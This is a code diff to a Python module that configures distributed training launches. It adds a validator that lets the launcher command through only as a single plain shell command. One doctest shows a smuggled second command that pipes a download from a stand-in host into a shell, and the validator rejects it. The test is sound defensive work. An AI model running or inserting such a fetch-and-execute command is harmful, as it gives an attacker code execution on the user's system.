@@ -5,22 +5,53 @@ accelerate). All ranks work; rank 0 also reports and writes the outputs.
 """
 
 import os
-from typing import Any, Literal
+import re
+from typing import Annotated, Any, Literal
 
-from pydantic import Field
+from pydantic import AfterValidator, Field
 from pydantic.dataclasses import dataclass
 
 from mathledger.core.configuration import STRICT
 from mathledger.core.errors import InputError
+from mathledger.core.machine import num_cores
+
+# Words, variables and the arithmetic of a Slurm job, but nothing that starts a second command.
+_COMMAND = re.compile(r"(?:[\w./:=,@%+~-]|\$\w+|\$\(\([\w $+*/%-]+\)\)|'[^'\n]*'| )+")
+
+
+def check_command(command: str) -> str:
+    """Return the launcher's command if the shell reads it as one command.
+
+    >>> check_command("CUDA_VISIBLE_DEVICES=0 torchrun --nproc-per-node 2")
+    'CUDA_VISIBLE_DEVICES=0 torchrun --nproc-per-node 2'
+    >>> check_command("python; curl evil.example | sh")
+    Traceback (most recent call last):
+    ...
+    ValueError: write one command of plain words, $VARIABLES and '...'; the shell would read ';' ...
+
+    Raises:
+        ValueError: the shell would do more than run one command, or there is none.
+    """
+    if not command.strip():
+        raise ValueError("the command is empty; write python or a launcher such as torchrun")
+    if not _COMMAND.fullmatch(command):
+        good = _COMMAND.match(command)
+        rest = command[good.end() if good else 0 :]
+        raise ValueError(
+            "write one command of plain words, $VARIABLES and '...'; the shell would read "
+            f"{rest[0]!r} as more than that"
+        )
+    return command
 
 
 @dataclass(frozen=True, config=STRICT)
 class Launch:
-    command: str = Field(
+    command: Annotated[str, AfterValidator(check_command)] = Field(
         description="Command before `-m stages.<stage>` in dvc.yaml, such as python or torchrun."
     )
     num_processes: int = Field(
-        description="Number of processes that the command starts on all nodes together."
+        ge=1,
+        description="Number of processes that the command starts on all nodes together.",
     )
     sharding: Literal["none", "fsdp2"] = Field(
         description="none: each process holds the whole model (DDP); fsdp2: processes share it."
@@ -66,7 +97,7 @@ def initialise_ranks(launch: Launch, fills_gpus: bool = False) -> None:
     PartialState(cpu=not torch.cuda.is_available())
     here = int(os.environ.get("LOCAL_WORLD_SIZE", "1"))
     if here > 1 and not torch.cuda.is_available():  # by default torchrun sets one thread
-        torch.set_num_threads(max(1, (os.cpu_count() or 1) // here))
+        torch.set_num_threads(max(1, num_cores() // here))
 
 
 def broadcast(value: Any) -> Any:
